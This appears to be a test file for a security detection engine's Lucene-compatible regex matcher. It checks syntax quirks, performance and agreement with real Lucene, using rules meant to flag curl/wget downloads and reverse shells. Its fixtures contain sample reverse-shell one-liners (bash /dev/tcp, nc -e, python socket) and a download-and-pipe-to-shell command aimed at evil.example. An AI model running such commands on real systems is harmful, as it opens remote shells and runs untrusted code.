"""RLIKE: Lucene regular expressions as ES|QL 9.x (Lucene 10.4) runs them.

Golden cases pin the quirks found in Lucene's RegExp.java (and re-checked against the real Lucene
through tests/oracle/lucene); property tests compare with Python's ``re`` where the two languages
agree, the RE2 path with the DFA path, and everything with the real Lucene.
"""

from __future__ import annotations

import functools
import re
import threading

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from auditstream.detections.errors import QuerySyntaxError
from auditstream.detections.regex.lucene.regexp import (
    RlikeMatcher,
    build_dfa_matcher,
    compile_rlike,
)
from tests.oracle.lucene.oracle_client import LuceneOracle

CURL = r".*(curl.*https|wget.*https).*"
CURL_EXCLUDE = (
    r".*(/api/v1/health|/healthz|/readyz|/livez|127\.0\.0\.1|localhost|/openid/v1/jwks|"
    r"/openid-connect/certs|/.well-known/openid-configuration|/.well-known/jwks\.json|"
    r"kubernetes\.default\.svc).*"
)
REVERSE_SHELL = (
    r".*(/dev/tcp/|/dev/udp/|zsh/net/tcp|zsh/net/udp|nc\s+-e|ncat\s+-e|netcat\s+-e|nc\s.*\s-c\s|"
    r"mkfifo|socat\s.*exec|socat\s.*pty|bash\s+-i\s+>&|0>&1|>&\s*/dev/tcp|import\s+socket.*connect|"
    r"import\s+pty.*spawn|socket\.socket.*connect|IO::Socket::INET|fsockopen|TCPSocket\.new|"
    r"/inet/tcp/).*"
)
LOCAL_TCP = r".*/dev/tcp/(localhost|127\.0\.0\.1)/(8080|8443|9090|3000|5000|8888|80|443).*"


@functools.lru_cache(maxsize=64)
def both(pattern: str) -> tuple[RlikeMatcher, RlikeMatcher]:
    """The production matcher and the pure-DFA one: every golden case must hold for both."""
    return build_dfa_matcher(pattern), build_dfa_matcher(pattern, use_re2=False)


def assert_matches(pattern: str, text: str, expected: bool) -> None:
    for matcher in both(pattern):
        assert matcher.matches(text) is expected, (pattern, text, matcher)


@pytest.fixture(scope="module")
def reverse_shell() -> RlikeMatcher:
    return build_dfa_matcher(REVERSE_SHELL)


# -- seed rules ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl -s https://evil.example/x.sh", True),
        ("sh -c 'wget -qO- https://x | sh'", True),
        ("curl http://plain", False),
        ("https then curl", False),
        ("line1\ncurl\nhttps", True),  # `.` crosses newlines
        ("CURL https://x", False),  # case-sensitive
    ],
)
def test_curl_wget_rule(text: str, expected: bool) -> None:
    assert_matches(CURL, text, expected)


def test_curl_exclusions() -> None:
    assert_matches(CURL_EXCLUDE, "curl https://kubernetes.default.svc/healthz", True)
    assert_matches(CURL_EXCLUDE, "curl https://127.0.0.1/x", True)
    assert_matches(CURL_EXCLUDE, "curl https://127a0b0c1/x", False)  # `\.` is a literal dot
    assert_matches(CURL_EXCLUDE, "curl https://evil/.well-known/jwks.json", True)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", True),  # via /dev/tcp/ only
        ("nc -e /bin/sh 10.0.0.1 4444", True),
        ("nc 10.0.0.1 4444 -c sh ", True),
        ("rm /tmp/f;mkfifo /tmp/f", True),
        ("python -c 'import socket,os;s=socket.socket();s.connect((1,2))'", True),
        ("ruby -rsocket -e 'TCPSocket.new(\"h\",1)'", True),
        ("ls -la", False),
        # The `&` quirk: `bash\s+-i\s+>&|0>&1|>&\s*/dev/tcp` parses as intersections that match
        # nothing, so these strings, which a PCRE reader would expect to match, do not.
        ("bash -i >& 0>&1", False),
        ("0>&1", False),
        (">& /dev/tcp", False),
        ("x 0>&1 y", False),
    ],
)
def test_reverse_shell_rule(reverse_shell: RlikeMatcher, text: str, expected: bool) -> None:
    assert reverse_shell.matches(text) is expected
    assert both(REVERSE_SHELL)[1].matches(text) is expected


def test_reverse_shell_rule_uses_re2_after_pruning_empty_intersections(
    reverse_shell: RlikeMatcher,
) -> None:
    assert reverse_shell._re2 is not None


def test_local_tcp_exclusion() -> None:
    assert_matches(LOCAL_TCP, "bash -i >& /dev/tcp/127.0.0.1/8080 0>&1", True)
    assert_matches(LOCAL_TCP, "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", False)


# -- syntax details ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "text", "expected"),
    [
        ("^a$", "^a$", True),  # anchors are literals
        ("^a$", "a", False),
        ("a.b", "a\nb", True),
        ("\\s", " ", True),
        ("\\s", "\t", True),
        ("\\s", "\x0b", False),
        ("\\s", "\f", False),
        ("\\S", "\f", True),
        ("\\d+", "0123456789", True),
        ("\\w+", "a_Z9", True),
        ("\\W", "-", True),
        ("[\\s]x", "\nx", True),  # predefined classes work inside brackets (Lucene 10)
        ("[^\\d]", "5", False),
        ("\\.", ".", True),
        ("\\.", "a", False),
        ("\\\\", "\\", True),
        ('"a.b*"', "a.b*", True),  # quoted literal
        ('a"("b', "a(b", True),
        ("#", "", False),
        ("a|#", "a", True),
        ("@", "anything\nat all", True),
        ("a@", "a", True),
        ("()", "", True),
        ("", "", True),
        ("", "a", False),
        ("|a", "|a", True),  # a leading `|` is a character
        ("a||b", "|b", True),
        ("a||b", "b", False),
        ("*a", "*a", True),
        ("a**", "aaa", True),
        ("{2}", "{2}", True),
        ("a{2}", "aa", True),
        ("a{2,}", "aaaa", True),
        ("a{2,3}", "aaaa", False),
        ("a{0}", "", True),
        ("[]a]+", "]a]", True),
        ("[a-c-e]", "-", True),
        ("[!-\\]]", "\\", True),  # the range end may be escaped
        ("[^a]", "\n", True),
    ],
)
def test_syntax(pattern: str, text: str, expected: bool) -> None:
    assert_matches(pattern, text, expected)


@pytest.mark.parametrize(
    ("pattern", "text", "expected"),
    [
        ("~(abc)", "abd", True),
        ("~(abc)", "abc", False),
        ("~(abc)", "", True),
        ("a~b", "ac", True),
        ("a~b", "ab", False),
        ("a~b", "abb", True),
        ("~~a", "a", True),
        (".*a.*&.*b.*", "xbxa", True),
        (".*a.*&.*b.*", "xxa", False),
        ("[a-z]+&~(.*foo.*)", "barbaz", True),
        ("[a-z]+&~(.*foo.*)", "barfoo", False),
        ("a&&b", "&b", False),  # `a & "&b"`
        ("a&|b", "a", False),  # `a & "|b"`
    ],
)
def test_complement_and_intersection(pattern: str, text: str, expected: bool) -> None:
    assert_matches(pattern, text, expected)


@pytest.mark.parametrize(
    ("pattern", "text", "expected"),
    [
        ("<1-100>", "1", True),
        ("<1-100>", "100", True),
        ("<1-100>", "101", False),
        ("<1-100>", "0", False),
        ("<1-100>", "0050", True),  # variable width: any leading zeros
        ("<1-100>", "", False),
        ("<10-20>", "15", True),
        ("<10-20>", "015", False),  # equal-length bounds fix the width
        ("<01-10>", "01", True),
        ("<01-10>", "1", False),
        ("<20-10>", "15", True),  # bounds are swapped
        ("<0-0>", "0", True),
        ("<0-0>", "00", False),
        ("port<8000-8100>x", "port8080x", True),
    ],
)
def test_numeric_interval(pattern: str, text: str, expected: bool) -> None:
    assert_matches(pattern, text, expected)


@pytest.mark.parametrize(
    "pattern",
    [
        "a)",
        "(a",
        "(a|)",
        "a|",
        "a&",
        "[a",
        "[]",
        "[^]",
        "[z-a]",
        "[a-]",
        "a{x}",
        "a{3,2}",
        "a{99999999999}",
        '"abc',
        "<1-",
        "<foo>",
        "<>",
        "<-5>",
        "<1-2-3>",
        "<1-x>",
        "\\",
        "\\q",
        "[\\q]",
        "\\A",
        "~",
        "a~",
    ],
)
def test_errors(pattern: str) -> None:
    with pytest.raises(QuerySyntaxError, match="offset"):
        compile_rlike(pattern)


def test_error_offset() -> None:
    with pytest.raises(QuerySyntaxError, match="at offset 3"):
        compile_rlike("abc)")


def test_too_complex_is_a_load_error() -> None:
    with pytest.raises(QuerySyntaxError, match="too complex"):
        compile_rlike("(a|b)*a(a|b){16}")


def test_matcher_api() -> None:
    matcher = compile_rlike("a.*")
    assert matcher.pattern == "a.*"
    assert matcher.matches("abc") and not matcher.matches("ba")


def test_lone_surrogate_falls_back_to_the_dfa() -> None:
    matcher = compile_rlike("a.b")
    assert matcher.matches("a\ud800b")


def test_shared_between_threads(reverse_shell: RlikeMatcher) -> None:
    texts = ["nc -e sh", "ls", "bash -i >& /dev/tcp/h/1"] * 200
    expected = [reverse_shell.matches(t) for t in texts]
    errors: list[str] = []

    def work() -> None:
        if [reverse_shell.matches(t) for t in texts] != expected:
            errors.append("mismatch")

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors


# -- linear time ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "text", "expected"),
    [
        ("(a*)*b", "a" * 10**6, False),
        ("(a|aa)*c", "a" * 10**6, False),
        ("(a*)*", "a" * 10**6, True),
        (".*(.*a.*)&.*b", "a" * 10**6, False),
        ("~(.*b.*)", "a" * 10**6, True),
        (REVERSE_SHELL, "nc " * 333_333, False),
        (REVERSE_SHELL, "x" * 10**6 + "/dev/tcp/", True),
        (CURL, "curl " * 200_000, False),
    ],
)
def test_one_megabyte_adversarial_inputs(pattern: str, text: str, expected: bool) -> None:
    for matcher in both(pattern):
        assert matcher.matches(text) is expected


# -- properties ------------------------------------------------------------------------------------

_LITERALS = ["a", "b", "c", " ", "/", "\n", "-"]


def _regex_pairs() -> st.SearchStrategy[tuple[str, str]]:
    """(Lucene pattern, Python regex) pairs from the grammar where both languages agree."""
    leaves = st.sampled_from(
        [(c, re.escape(c)) for c in _LITERALS]
        + [
            (".", "."),
            ("[ab]", "[ab]"),
            ("[^a]", "[^a]"),
            ("[a-c]", "[a-c]"),
            ("\\s", "[ \\t\\n\\r]"),
            ("\\w", "[A-Za-z0-9_]"),
        ]
    )

    def extend(children: st.SearchStrategy[tuple[str, str]]) -> st.SearchStrategy[tuple[str, str]]:
        pair = st.tuples(children, children)
        return st.one_of(
            pair.map(lambda p: (p[0][0] + p[1][0], p[0][1] + p[1][1])),
            pair.map(lambda p: (f"({p[0][0]}|{p[1][0]})", f"(?:{p[0][1]}|{p[1][1]})")),
            st.tuples(children, st.sampled_from(["*", "+", "?", "{2}", "{1,2}", "{0,}"])).map(
                lambda p: (f"({p[0][0]}){p[1]}", f"(?:{p[0][1]}){p[1]}")
            ),
        )

    return st.recursive(leaves, extend, max_leaves=8)


_TEXTS = st.text(alphabet="abc /\n-_xA", max_size=10)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_regex_pairs(), st.lists(_TEXTS, min_size=1, max_size=5))
def test_agrees_with_python_re_on_the_common_grammar(
    pair: tuple[str, str], texts: list[str]
) -> None:
    lucene, python = pair
    reference = re.compile(python, re.DOTALL)
    for matcher in both(lucene):
        for text in texts:
            assert matcher.matches(text) is (reference.fullmatch(text) is not None), (lucene, text)


_TOKENS = [
    "a", "b", "0", "1", "5", ".", "*", "+", "?", "|", "&", "~", "(", ")", "[", "]", "^", "-",
    "\\", '"', "#", "@", "<", ">", "<1-10>", "<05-20>", "{2}", "{1,3}", "{2,}", "\\s", "\\d",
    "\\w", "\\S", "\\W", "$", " ", "\n", "\t", "x", "\\.", ".*",
]  # fmt: skip
_PATTERNS = st.lists(st.sampled_from(_TOKENS), max_size=10).map("".join)
_RICH_TEXTS = st.text(alphabet="ab015x .-|&~\n\t\x0b", max_size=8)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_PATTERNS, st.lists(_RICH_TEXTS, min_size=1, max_size=4))
def test_re2_path_agrees_with_dfa_path(pattern: str, texts: list[str]) -> None:
    try:
        fast = build_dfa_matcher(pattern)
    except QuerySyntaxError:
        return
    slow = build_dfa_matcher(pattern, use_re2=False)
    for text in texts:
        assert fast.matches(text) is slow.matches(text), (pattern, text)


# -- the real Lucene -------------------------------------------------------------------------------


@functools.lru_cache(maxsize=16)
def _compiled(pattern: str) -> RlikeMatcher | str:
    try:
        return build_dfa_matcher(pattern)
    except QuerySyntaxError as error:
        return "E " + str(error)


def _ours(pattern: str, text: str) -> str:
    matcher = _compiled(pattern)
    if isinstance(matcher, str):
        return matcher
    return "M" if matcher.matches(text) else "N"


@pytest.mark.parametrize("pattern", [CURL, CURL_EXCLUDE, REVERSE_SHELL, LOCAL_TCP])
def test_seed_patterns_against_lucene(lucene_oracle: LuceneOracle, pattern: str) -> None:
    texts = [
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        "bash -i >& 0>&1",
        "curl https://localhost/healthz",
        "wget https://x",
        "nc 1 2 -c sh ",
        "/dev/tcp/127.0.0.1/8080",
        "",
    ]
    for text in texts:
        assert _ours(pattern, text)[0] == lucene_oracle.ask("rlike", pattern, text)[0], text


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_PATTERNS, st.lists(_RICH_TEXTS, min_size=1, max_size=4))
def test_agrees_with_real_lucene(
    lucene_oracle: LuceneOracle, pattern: str, texts: list[str]
) -> None:
    for text in texts:
        theirs = lucene_oracle.ask("rlike", pattern, text)
        assume(not theirs.startswith("T"))  # Lucene's own determinization budget
        ours = _ours(pattern, text)
        assert ours[0] == theirs[0], (pattern, text, ours, theirs)


@pytest.mark.parametrize(
    ("pattern", "matches_empty"),
    [("#*", False), ("(a&b)*", False), ("#{2,}", False), ("#{0,1}", True), ("(#*)?", True)],
)
def test_repeats_of_an_empty_language_follow_lucene(pattern: str, matches_empty: bool) -> None:
    # Found by the Lucene oracle: Lucene 10 builds x* of an empty x as an empty automaton.
    assert compile_rlike(pattern).matches("") is matches_empty
    assert not compile_rlike(pattern).matches("a")


@pytest.mark.parametrize("pattern", ["#{1}", "#{2}", "(a&b){2}", "~@{1,3}", "(#*){2}"])
def test_bounded_repeats_of_an_empty_language_fail_like_lucene(pattern: str) -> None:
    # Lucene throws ArrayIndexOutOfBoundsException building these; Elasticsearch fails the query.
    with pytest.raises(QuerySyntaxError, match="empty language"):
        compile_rlike(pattern)


_MALFORMED_EMPTY = [
    # (pattern, what it matches among "", "a", "aa", "ab"; None: Lucene throws)
    ("a#{2}", ""),
    ("#{2}a", ""),
    ("a|#{2}", "a"),
    ("a(b|#{2})", "ab"),
    ("~#{2}", "* a aa ab"),
    ("a~(#{2})", "a aa ab"),
    ("(#{2})+", ""),
    ("(#{2}){0,2}", "*"),
    ("a(#{2})?", "a"),
    ("~(#{2})&a", "a"),
    ("a(#{2}&a)", ""),
    ("a~(a&#{2})", "a aa ab"),
    ("(a#){2}", None),
    ("a&#{2}", None),
    ("(#{2}){2}", None),
    ("(#{2})*", None),
]
_TEXTS = {"*": "", "a": "a", "aa": "aa", "ab": "ab"}


@pytest.mark.parametrize(("pattern", "matching"), _MALFORMED_EMPTY)
def test_a_bounded_repeat_of_an_empty_language_fails_only_where_lucene_fails(
    pattern: str, matching: str | None
) -> None:
    # Found by the Lucene oracle (a#{2}): Lucene's automaton for #{2} is malformed, which only
    # matters where it reaches the query; concatenation, union, complement and + rebuild it.
    if matching is None:
        with pytest.raises(QuerySyntaxError, match="empty language"):
            compile_rlike(pattern)
        return
    matcher = compile_rlike(pattern)
    expected = {_TEXTS[t] for t in matching.split()}
    assert {t for t in _TEXTS.values() if matcher.matches(t)} == expected


@pytest.mark.parametrize("pattern", [p for p, _ in _MALFORMED_EMPTY])
def test_malformed_empty_repeats_against_lucene(lucene_oracle: LuceneOracle, pattern: str) -> None:
    for text in _TEXTS.values():
        assert _ours(pattern, text)[0] == lucene_oracle.ask("rlike", pattern, text)[0], text
